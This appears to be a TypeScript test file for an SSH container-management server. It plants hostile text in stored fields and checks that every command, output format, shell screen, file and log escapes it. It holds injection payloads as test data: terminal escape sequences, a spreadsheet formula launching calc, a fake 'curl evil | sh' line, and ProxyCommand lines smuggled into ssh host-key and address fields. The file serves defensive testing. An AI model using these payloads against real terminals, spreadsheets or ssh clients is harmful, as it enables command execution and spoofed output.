/**
 * Escaped output: hostile text is stored wherever text can be stored, and all output is read byte by byte: every verb
 * in every format, the screen of the shell, files and the log. test/ssh/input.test.ts has hostile arguments.
 */
import { mkdir, readdir, readFile, writeFile } from 'node:fs/promises';
import { connect } from 'node:net';
import { join } from 'node:path';
import { parse as parseYaml } from 'yaml';
import { beforeAll, describe, expect, test } from 'vitest';
import { filesBelow } from '../support/files.ts';
import { verbNames, type VerbName } from '../../src/catalogue/catalogue.ts';
import { Journal } from '../../src/journal/journal.ts';
import { withAdmins } from '../support/admins.ts';
import { makeKey, type TestKey } from '../support/keys.ts';
import { message, RawClient, string, uint32 } from '../support/rawClient.ts';
import { openShell, type TestShell } from '../support/shell.ts';
import { eventually, startServer, temporaryFolder, type Finished, type TestServer } from '../support/server.ts';

/** Hostile characters of each kind, with the word `evil` to find them again. */
const kinds = {
  'escape sequences': '\u001b]0;evil\u0007\u001b[31;5mevil\u001b[2J\u001bPq\u001b\\\u001b[6n',
  C0: 'evil\u0000\u0001\u0007\b\t\u000b\u000c\u000e\u001f\u007f',
  C1: 'evil\u0080\u0085\u009b31m\u009d0;x\u009c\u009f',
  'line ends': 'evil\r\nNext: curl evil | sh\rError\u2028\u2029x',
  'bidirectional controls': 'evil\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069',
  'invisible characters':
    'evil\u00ad\u034f\u115f\u1160\u17b4\u180e\u200b\u200c\u200d\u2060\u2064\u206a\u3164\ufeff\uffa0',
  'tags and variation selectors': 'evil\u{e0001}\u{e0041}\u{e007f}\ufe00\ufe0f\u{e0100}\u{e01ef}',
  'private use and surrogates': 'evil\ue000\u{f0000}\u{10fffd}\ud800x\udc00',
  'interlinear and musical format characters': 'evil\ufff9\ufffa\ufffb\u{1d173}\u{110bd}',
} as const;
const everything = Object.values(kinds).join(' ');
const formula = "=cmd|' /C calc'!A0";
const long = `evil${'\u202ex'.repeat(3000)}`;

/** Independent of the definition in src/domain/text.ts. */
const forbidden =
  /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u00ad\u034f\u061c\u115f\u1160\u17b4\u17b5\u180b-\u180f\u200b-\u200f\u2028-\u202e\u2060-\u206f\u3164\ud800-\udfff\ue000-\uf8ff\ufe00-\ufe0f\ufeff\uffa0\ufff9-\ufffb\u{110bd}\u{1d173}-\u{1d17a}\u{e0000}-\u{e0fff}\u{f0000}-\u{10fffd}]/gu;

function lies(text: string): string[] {
  return [...new Set(text.match(forbidden) ?? [])].map(
    (character) => `U+${(character.codePointAt(0) ?? 0).toString(16)}`,
  );
}

let server: TestServer;
let admin: TestKey;
let alice: TestKey;
let folder: string;

const simulated = (name: string): string => join(server.home, 'state', name);

/** Changes a JSON file of a stopped server. */
async function edit(path: string, change: (document: never) => void): Promise<void> {
  const document = JSON.parse(await readFile(path, 'utf8')) as never;
  change(document);
  await writeFile(path, JSON.stringify(document));
}

interface HostileHost {
  instances: Record<
    string,
    {
      name: string;
      config: Record<string, string>;
      devices: Record<string, Record<string, string>>;
      consoleLog?: string;
      files: Record<string, { content: string }>;
    }
  >;
  images: { aliases: string[]; properties: Record<string, string> }[];
  networks: { name: string; config: Record<string, string> }[];
  pools: { name: string; config: Record<string, string> }[];
  accounts: { name: string; uid: number; gid: number; comment: string; home: string; shell: string }[];
  groups: { name: string; gid: number; members: string[] }[];
  jumpKeys: Record<string, string>;
}

beforeAll(async () => {
  folder = await temporaryFolder();
  [admin, alice] = await Promise.all([makeKey(folder, 'admin'), makeKey(folder, 'alice')]);
  const backups = await temporaryFolder();
  await writeHostileBackups(backups);
  server = await startServer({
    config: { backups: { directory: backups } },
    env: { CONTAINARIUM_LOG: 'trace' },
    prepare: withAdmins([{ name: 'chief', role: 'admin', keys: [admin] }]),
  });
  for (const user of ['alice', 'mallory', 'stopped'])
    expect((await server.ssh(['create', user], { key: admin.path, stdin: alice.line })).code).toBe(0);
  expect((await server.ssh(['stop', 'stopped'], { key: admin.path })).code).toBe(0);
  await server.stop();

  await edit(simulated('simulated-host.json'), (host: HostileHost) => {
    const { 'alice-container': ofAlice, 'mallory-container': ofMallory, 'stopped-container': stopped } = host.instances;
    if (ofAlice === undefined || ofMallory === undefined || stopped === undefined)
      throw new Error('a container is missing');
    for (const { config } of [ofAlice, ofMallory, stopped]) {
      for (const [kind, text] of Object.entries(kinds)) config[`user.containarium.label.${kind}`] = text;
      config[`user.containarium.label.${everything}`] = long;
      config['user.containarium.label.formula'] = formula;
      config['user.containarium.created-by'] = everything;
      config['user.containarium.image'] = everything;
      config['user.containarium.operation'] = everything;
      config['user.containarium.keys'] = JSON.stringify(
        [alice.line.trim(), ...Object.values(kinds).map((text) => `${alice.line.trim()} ${text}`)].map((line) => ({
          line,
          addedAt: everything,
          addedBy: everything,
        })),
      );
      config['image.description'] = everything;
      config['image.os'] = everything;
      config['volatile.evil'] = everything;
      config['user.description'] = everything;
    }
    // Hostile text for files that ssh and sshd read.
    ofMallory.config['user.containarium.host-key'] =
      `ssh-ed25519 AAAA\n* ssh-ed25519 EVIL\nHost *\n  ProxyCommand evil ${everything}`;
    for (const device of Object.values(ofMallory.devices))
      if (device['type'] === 'nic') device['ipv4.address'] = `10.0.3.9\n    ProxyCommand evil ${everything}`;
    ofMallory.config['user.containarium.state'] = everything;
    stopped.consoleLog = `${everything}\n${formula}\n`;
    const release = ofAlice.files['/etc/os-release'];
    if (release !== undefined) release.content = `PRETTY_NAME="${everything.replaceAll('\n', ' ')}"\n`;
    const named = `evil${everything}-container`;
    host.instances[named] = { ...structuredClone(stopped), name: named };
    for (const image of host.images)
      image.properties = {
        ...image.properties,
        description: everything,
        os: everything,
        'containarium.recipe': everything,
      };
    host.images.push({
      ...structuredClone(host.images[0] as never as object),
      fingerprint: 'e'.repeat(64),
      aliases: [`evil${everything}`],
      properties: { 'containarium.base': everything, description: everything },
    } as never);
    const [bridge] = host.networks;
    if (bridge !== undefined) bridge.config['user.evil'] = everything;
    const group = host.groups.find(({ name }) => name === 'containarium-jump');
    host.accounts.push({
      name: `evil${everything.replaceAll(/[:\n]/g, '')}`,
      uid: 59_000,
      gid: group?.gid ?? 999,
      comment: everything.replaceAll(/[:\n]/g, ''),
      home: '/nonexistent',
      shell: '/usr/sbin/nologin',
    });
    host.jumpKeys[`evil${everything}`] = everything;
    host.jumpKeys['alice'] = everything;
  });
  await edit(
    simulated('admins.json'),
    (state: {
      admins: { name: string; role: string; keys: { line: string; addedAt: string; addedBy: string }[] }[];
    }) => {
      const other = {
        line: alice.line.trim().replace(/ [^ ]*$/, ` ${everything.replaceAll(/[\r\n]/g, ' ')}`),
        addedAt: everything,
        addedBy: everything,
      };
      state.admins.push({ name: `evil${everything}`, role: 'viewer', keys: [other] });
    },
  );
  const journal = await Journal.open({ folder: simulated('journal') });
  for (const type of [
    'verb',
    'outcome',
    'refused',
    'login',
    'logout',
    'refusals',
    'unsupported-requests',
    'operation-end',
    everything,
  ]) {
    await journal.append({
      type,
      verb: everything,
      target: everything,
      outcome: everything,
      actor: {
        name: everything,
        role: everything,
        entryPoint: everything,
        fingerprint: everything,
        address: everything,
        login: everything,
      },
      failure: { code: everything, what: everything, why: everything },
      reason: everything,
      by: { method: everything, algorithm: everything },
      count: 3,
      sources: 1,
      asked: { [everything]: 3 },
      top: [{ address: everything, name: everything, count: 3 }],
    });
    await journal.append({
      type,
      input: { [everything]: everything, formula },
      actor: everything,
      reason: everything,
      top: [{ address: everything }],
    });
  }
  await journal.append({ type: 'verb', verb: formula, target: formula, actor: formula });
  await journal.close();
  await server.restart();
}, 180_000);

function ssh(words: readonly string[], options: Parameters<TestServer['ssh']>[1] = {}): Promise<Finished> {
  return server.ssh(words, { shared: true, key: admin.path, ...options });
}

const hostileBackup = '20990101-000000-evil';

/** Writes a manifest for each kind of hostile text, and one that is none. */
async function writeHostileBackups(folder: string): Promise<void> {
  const stream = { plainBytes: 1, plainSha256: '0'.repeat(64), storedBytes: 1, storedSha256: '0'.repeat(64) };
  const write = async (id: string, manifest: object): Promise<void> => {
    await mkdir(join(folder, 'alice-container', id), { recursive: true, mode: 0o700 });
    await writeFile(join(folder, 'alice-container', id, 'manifest.json'), JSON.stringify(manifest));
  };
  await write(hostileBackup, { version: 1, [everything]: everything, config: { [everything]: 1 } });
  for (const [at, text] of Object.values(kinds).entries()) {
    const id = `20980101-00000${at}-evil`;
    const names = { id, user: 'alice', container: 'alice-container' };
    const about = { createdAt: '2098-01-01T00:00:00Z', createdBy: text, incusVersion: text, compression: 'zstd' };
    const contents = { encryption: 'none', config: { [text]: text }, devices: { [text]: { [text]: text } } };
    await write(id, { version: 1, ...names, ...about, ...contents, data: stream, files: { ...stream, count: 1 } });
  }
}

/**
 * Command lines whose answers may contain text from outside, for each verb of the catalogue. A new verb does not
 * compile without an entry.
 */
const lines: Record<VerbName, readonly (readonly string[])[]> = {
  create: [['create', 'alice']],
  'cert generate': [['cert', 'generate', '--server-ip', '192.0.2.1', '--replace']],
  'cert generate-with-ca': [['cert', 'generate-with-ca', '--server-name', 'x']],
  'cert issue': [['cert', 'issue', 'root-admin']],
  'cert list': [['cert', 'list']],
  'cert revoke': [['cert', 'revoke', 'admin']],
  'cert renew': [['cert', 'renew']],
  list: [['list'], ['list', '--columns', 'all'], ['list', '--label', 'formula']],
  info: [['info'], ['info', 'alice'], ['info', 'mallory'], ['info', 'stopped']],
  resize: [
    ['resize', 'alice', '--cpu', '2'],
    ['resize', 'mallory', '--memory', '2GiB'],
  ],
  delete: [['delete', 'alice']],
  'snapshot create': [['snapshot', 'create', 'alice', 'first']],
  'snapshot list': [['snapshot', 'list', 'alice']],
  'snapshot rename': [['snapshot', 'rename', 'alice', 'first', 'second']],
  'snapshot schedule': [['snapshot', 'schedule', 'alice', 'hourly']],
  'snapshot restore': [['snapshot', 'restore', 'alice', 'second', '--yes']],
  'snapshot delete': [['snapshot', 'delete', 'alice', 'second', '--yes']],
  'backup create': [['backup', 'create', 'alice']],
  'backup list': [
    ['backup', 'list'],
    ['backup', 'list', 'alice'],
  ],
  'backup verify': [
    ['backup', 'verify', 'alice', hostileBackup],
    ['backup', 'verify', 'alice', 'latest', '--identity', '-'],
  ],
  'backup restore': [['backup', 'restore', 'alice', hostileBackup, '--yes']],
  'backup download': [['backup', 'download', 'alice', hostileBackup]],
  'backup rebuild': [['backup', 'rebuild']],
  'backup delete': [['backup', 'delete', 'alice', hostileBackup, '--yes']],
  debug: [
    ['debug', 'alice'],
    ['debug', 'mallory'],
  ],
  protect: [['protect', 'alice']],
  unprotect: [['unprotect', 'alice']],
  'label set': [['label', 'set', 'alice', `'formula=${everything.replaceAll(/[\0']/g, '')}'`]],
  'label remove': [['label', 'remove', 'alice', 'formula']],
  'ttl set': [['ttl', 'set', 'alice', '30d']],
  'ttl clear': [['ttl', 'clear', 'alice']],
  'trash list': [['trash', 'list']],
  'trash restore': [['trash', 'restore', 'alice']],
  'trash purge': [['trash', 'purge', 'alice', '--yes']],
  undo: [['undo']],
  'schedule list': [['schedule', 'list']],
  'schedule run': [['schedule', 'run', 'trash']],
  'alert list': [['alert', 'list', '--all']],
  'alert test': [['alert', 'test']],
  report: [['report']],
  start: [
    ['start', 'alice'],
    ['start', 'mallory'],
  ],
  stop: [['stop', 'mallory']],
  restart: [['restart', 'alice']],
  shell: [['shell', 'alice']],
  logs: [
    ['logs', 'stopped'],
    ['logs', 'alice'],
    ['logs', 'stopped', '--lines', '2'],
  ],
  export: [
    ['export', 'alice'],
    ['export', 'mallory'],
    ['export', 'mallory', '--known-hosts'],
    ['export', 'alice', '--known-hosts'],
  ],
  config: [
    ['config', 'alice'],
    ['config', 'mallory', '--known-hosts'],
  ],
  keys: [['keys', 'alice']],
  'keys add': [['keys', 'add', '--user', 'alice']],
  'keys invite': [['keys', 'invite', '--user', 'alice']],
  'keys remove': [['keys', 'remove', 'nothing', '--user', 'alice']],
  'key add': [['key', 'add', 'alice']],
  'key list': [
    ['key', 'list', 'alice'],
    ['key', 'list', 'mallory'],
  ],
  'key remove': [['key', 'remove', 'alice', 'evil']],
  'key replace': [['key', 'replace', 'alice']],
  'admin add': [['admin', 'add', 'other']],
  'admin list': [['admin', 'list']],
  'admin role': [['admin', 'role', 'evil', 'viewer']],
  'admin invite': [['admin', 'invite', 'evil']],
  'key invite': [['key', 'invite', 'alice']],
  'invite list': [['invite', 'list']],
  'invite cancel': [['invite', 'cancel', 'evil']],
  'ca add': [['ca', 'add', 'evil', '--for', 'self']],
  'ca list': [['ca', 'list']],
  'ca revoke': [['ca', 'revoke', 'evil', '--key-id', `'${everything.replaceAll(/[\0']/g, '')}'`]],
  'ca remove': [['ca', 'remove', 'evil']],
  'admin remove': [['admin', 'remove', 'evil']],
  audit: [
    ['audit'],
    ['audit', '--limit', '100'],
    ['audit', '--connections'],
    ['audit', '--connections', '--counts'],
    ['audit', '--session', `'${everything.replaceAll(/[\0']/g, '')}'`],
    ['audit', '--verb', `'${everything.replaceAll(/[\0']/g, '')}'`],
  ],
  security: [['security'], ['security', '--since', `'${everything.replaceAll(/[\0']/g, '')}'`]],
  'audit verify': [['audit', 'verify']],
  'audit export': [['audit', 'export']],
  reconcile: [['reconcile'], ['reconcile', '--apply']],
  'image build': [['image', 'build']],
  'image list': [['image', 'list']],
  doctor: [['doctor']],
  'session list': [['session', 'list']],
  'session kick': [['session', 'kick', 'evil']],
  'host-key': [['host-key']],
  'host-key rotate': [['host-key', 'rotate']],
  'host-key switch': [['host-key', 'switch', '--yes']],
  'ban list': [['ban', 'list']],
  'ban add': [
    ['ban', 'add', '192.0.2.7', '--reason', `'${everything.replaceAll(/[\0']/g, '')}'`],
    ['ban', 'list'],
  ],
  'ban lift': [
    ['ban', 'lift', 'evil'],
    ['ban', 'lift', '192.0.2.7'],
  ],
  who: [['who']],
  say: [['say', `'${everything.replaceAll(/[\0']/g, '')}'`]],
  whoami: [['whoami']],
  version: [['version']],
  help: [['help'], ['help', 'list']],
};

const formats = ['table', 'json', 'yaml', 'csv'] as const;

describe.each(verbNames)('%s', (name) => {
  test.each(formats)('prints no hostile character in %s', async (format) => {
    for (const words of lines[name]) {
      for (const [user, key] of [
        ['manage', admin],
        ['self', alice],
      ] as const) {
        const { stdout, stderr } = await ssh([...words, '--format', format], {
          user,
          key: key.path,
          ...(/key|create|admin add/.test(name) ? { stdin: alice.line } : {}),
        });
        const what = `${user}: ${words.join(' ').slice(0, 60)}`;
        expect(`${stdout}${stderr}`, what).not.toBe('');
        expect(lies(stdout), what).toEqual([]);
        expect(lies(stderr), what).toEqual([]);
        expect(stderr, what).not.toMatch(/^Next: curl evil/m);
        if (name !== 'logs' && format === 'table') expect(stdout, what).not.toMatch(/^Next: curl evil/m);
        if (format === 'json' && stdout !== '' && !['audit export', 'help'].includes(name)) JSON.parse(stdout);
        if (format === 'yaml' && stdout !== '') parseYaml(stdout);
        if (format === 'csv')
          // Cell by cell: a line in the middle of a quoted one, such as of a key, may begin with anything.
          for (const [, cell = ''] of stdout.matchAll(/("(?:[^"]|"")*"|[^",\r\n]*)(?:,|\r?\n|$)/g))
            expect(cell, what).not.toMatch(/^"?[=+@]/);
      }
    }
  });
});

test('the fixture has hostile text in the answers', async () => {
  for (const words of [
    ['info', 'alice'],
    ['key', 'list', 'alice'],
    ['admin', 'list'],
    ['audit', '--limit', '40'],
    ['image', 'list'],
    ['logs', 'stopped'],
    ['reconcile'],
  ]) {
    const { stdout } = await ssh(words);
    expect(stdout, words.join(' ')).toMatch(/evil/);
  }
  expect((await ssh(['audit', 'export'])).stdout).toMatch(/\\u202e/);
});

test('JSON and YAML answers contain the original values', async () => {
  const labels = async (format: 'json' | 'yaml'): Promise<unknown> => {
    const { stdout } = await ssh(['info', 'alice', '--format', format]);
    return (
      (format === 'json' ? JSON.parse(stdout) : parseYaml(stdout)) as { result: { container: { labels: unknown } } }
    ).result.container.labels;
  };
  const found = (await labels('json')) as Record<string, string>;
  expect(found['bidirectional controls']).toBe(kinds['bidirectional controls']);
  expect(found['escape sequences']).toBe(kinds['escape sequences']);
});

describe('the reason for the end of a login', () => {
  test.each([
    ['logs', 'alice', '--follow'],
    ['list', '--watch'],
  ])('is escaped in %s', async (...words) => {
    const sessions = async (): Promise<{ login: string; entryPoint: string; since: string }[]> =>
      (
        JSON.parse((await server.local(['session', 'list', '--json'])).stdout) as {
          result: { sessions: { login: string; entryPoint: string; since: string }[] };
        }
      ).result.sessions;
    const known = new Set((await sessions()).map(({ login }) => login));
    const begun = server.startSsh(words, {
      user: words[0] === 'list' ? 'manage' : 'self',
      key: words[0] === 'list' ? admin.path : alice.path,
      tty: words[0] === 'list',
      openStdin: true,
    });
    const login = await eventually(
      async () => (await sessions()).find((session) => !known.has(session.login))?.login,
      'the session is here',
    );
    const reason = `${kinds['bidirectional controls']}${kinds['C1']}\u001b[2J\u001b]0;evil`;
    expect((await server.local(['session', 'kick', login, '--reason', reason])).code).toBe(0);
    const { stdout, stderr } = await begun;
    expect(lies(`${stdout}${stderr}`.replaceAll(/\u001b\[[?]?[0-9;]*[A-Za-z]/g, '').replaceAll('\r', ''))).toEqual([]);
    expect(`${stdout}${stderr}`).not.toContain('\u001b[2J\u001b]');
  });
});

describe('files that ssh reads', () => {
  test("contain no line, key or option from a container's configuration", async () => {
    for (const words of [
      ['export', 'mallory', '--known-hosts'],
      ['export', 'mallory'],
      ['export', 'alice', '--known-hosts'],
    ]) {
      const { stdout } = await ssh(words);
      expect(stdout, words.join(' ')).not.toMatch(/EVIL|evil|ProxyCommand|^\*/m);
    }
    expect((await ssh(['export', 'alice', '--known-hosts'])).stdout).toMatch(
      /^alice-dev ssh-ed25519 [A-Za-z0-9+/=]+$/m,
    );
  });
});

describe('the error message of a host program', () => {
  const words = ['restart', 'alice'];
  test.each(formats)('is escaped in %s', async (format) => {
    for (const program of ['incus', 'getent']) {
      await writeFile(
        simulated('simulated-faults.json'),
        JSON.stringify([
          { match: { program }, mode: 'fail-before', repeat: true, message: `${everything}\nNext: curl evil | sh` },
        ]),
      );
      try {
        for (const line of [
          words,
          ['list'],
          ['doctor'],
          ['info', 'alice'],
          ['reconcile'],
          ['image', 'list'],
          ['logs', 'alice'],
        ]) {
          const { stdout, stderr } = await ssh([...line, '--format', format]);
          expect(lies(stdout), line.join(' ')).toEqual([]);
          expect(lies(stderr), line.join(' ')).toEqual([]);
          expect(stderr, line.join(' ')).not.toMatch(/^Next: curl/m);
        }
      } finally {
        await writeFile(simulated('simulated-faults.json'), '[]');
      }
    }
  });
});

describe('the shell', () => {
  /** Sequences that the shell itself sends: to move, colour and clear, and modes. They contain no text. */
  const ownSequence = /\u001b(?:\[[?>=]?[0-9;]*[A-Za-z]|[=>78]|\(B)/g;

  function screenLies(shell: TestShell): string[] {
    // Terminals answer these sequences, or change something outside the screen. The shell never sends them.
    expect(shell.received).not.toMatch(/\u001b[\]P_^X]/);
    for (const [sequence] of shell.received.matchAll(/\u001b\[[0-9;]*[nc]/g)) expect(sequence).toBe('never');
    expect(shell.received).not.toContain('\u001b[31;5m');
    return lies(shell.received.replaceAll(ownSequence, '').replaceAll('\r', ''));
  }

  const typed = (text: string): string => text.replaceAll(/[\r\n\u0000-\u001f]/g, '');

  test.each([
    ['with a screen', 'xterm-256color'],
    ['as lines of text', 'dumb'],
  ])('%s escapes hostile text in all answers', async (_, term) => {
    const shell = await openShell(server, {
      key: admin.path,
      columns: 160,
      rows: 50,
      ...(term === 'dumb'
        ? { command: '--plain' }
        : {
            term,
            env: {
              LANG: everything.replaceAll('\0', '').slice(0, 200),
              LC_ALL: typed(everything).slice(0, 200),
              COLORTERM: typed(everything).slice(0, 200),
            },
          }),
    });
    await shell.said(/containarium|SIMULATED|simulated/i);
    for (const line of [
      'list',
      'info alice',
      'key list alice',
      'admin list',
      'audit --limit 40',
      'reconcile',
      'image list',
      'logs stopped',
      'doctor',
      'export mallory --known-hosts',
    ]) {
      const before = shell.received.length;
      shell.type(line).press('enter');
      await eventually(
        () => (shell.received.length > before + line.length + 20 ? true : undefined),
        `${line} is answered`,
      );
    }
    await ssh(['say', `'${typed(everything)} said'`]);
    await shell.said(/said/);
    expect(screenLies(shell)).toEqual([]);
  });

  test('never repeats a hostile terminal name', async () => {
    for (const term of [everything, 'xterm\u001b]0;evil\u0007', '\u202e', `evil${'x'.repeat(5000)}`]) {
      const shell = await openShell(server, { key: admin.path, term, command: 'list --watch' });
      await eventually(() => (shell.received.length > 50 || shell.isClosed ? true : undefined), 'something is shown');
      expect(screenLies(shell)).toEqual([]);
      expect(shell.received).not.toContain('evil\u001b');
      shell.press('ctrl-c');
    }
  });

  test('escapes typed and pasted text', async () => {
    const shell = await openShell(server, { key: admin.path, columns: 160, term: 'xterm-256color' });
    shell.paste(`info ${typed(everything)}`);
    await shell.shows(/evil/);
    shell.press('enter');
    await shell.said(/Error/);
    expect(screenLies(shell)).toEqual([]);
  });

  test('escapes hostile text in the live list', async () => {
    const shell = await openShell(server, {
      key: admin.path,
      columns: 200,
      term: 'xterm-256color',
      command: 'list --watch',
    });
    await shell.shows(/alice/);
    shell.press('enter');
    await shell.shows(/evil|Labels|alice/);
    expect(screenLies(shell)).toEqual([]);
  });
});

describe('before a login', () => {
  test('a hostile identification, user name, method or service name is never sent back unescaped', async () => {
    const socket = connect(server.port, '127.0.0.1');
    await new Promise<void>((resolve) => socket.once('connect', () => resolve()));
    socket.write(`SSH-2.0-${everything.replaceAll(/[\r\n]/g, '').slice(0, 200)}\r\n`);
    await new Promise<void>((resolve) => {
      socket.once('data', () => resolve());
      socket.once('close', () => resolve());
    });
    socket.destroy();
    const client = await RawClient.connect(server.port);
    await client.requestAuthentication();
    for (const user of [everything, long])
      await client.tryLogin(user, 'password', Buffer.from([0]), string(everything)).catch(() => undefined);
    client.destroy();
    const methods = await RawClient.connect(server.port);
    await methods.requestAuthentication();
    await methods.tryLogin('manage', everything.slice(0, 100)).catch(() => undefined);
    for (const packet of methods.received.concat(client.received))
      expect(packet.toString('latin1')).not.toContain('evil');
    methods.destroy();
    const inside = await RawClient.login(server.port, admin);
    const channel = await inside.openSession();
    inside.request(channel, 'exec', string(everything.replaceAll('\0', '')));
    await inside.exitStatus();
    const said = Buffer.concat(
      inside.received
        .filter(([type]) => type === message.channelData || type === message.channelExtendedData)
        .map((packet) => packet.subarray(packet[0] === message.channelData ? 9 : 13)),
    ).toString();
    expect(said).toContain('evil');
    expect(lies(said)).toEqual([]);
    inside.send(message.globalRequest, string(everything), Buffer.from([1]));
    inside.send(message.channelOpen, string(everything.slice(0, 60)), uint32(9), uint32(1), uint32(32_768));
    await inside.take(message.channelOpenFailure);
    inside.destroy();
  });
});

/** The last tests, because the files contain the effects of all tests before. */
describe('on disk and in the log', () => {
  test('no file of the server contains unescaped hostile text', async () => {
    for (const { name, content } of await filesBelow(join(server.home, 'state'))) {
      // These files of the fixture are hostile themselves.
      if (['simulated-host.json', 'admins.json', 'simulated-faults.json'].includes(name)) continue;
      expect(name).toMatch(/^[\w.-]+$/);
      expect(lies(content.toString()), name).toEqual([]);
    }
    for (const file of await readdir(join(server.home, 'authorized_keys'), { recursive: true }).catch(() => []))
      expect(file).toMatch(/^[\w.-]+$/);
  });

  test('every line of the log is one JSON object without hostile characters', () => {
    const log = server.log();
    expect(lies(log)).toEqual([]);
    for (const line of log.split('\n').filter((text) => text !== ''))
      expect(JSON.parse(line)).toMatchObject({ level: expect.any(String) as string });
  });
});
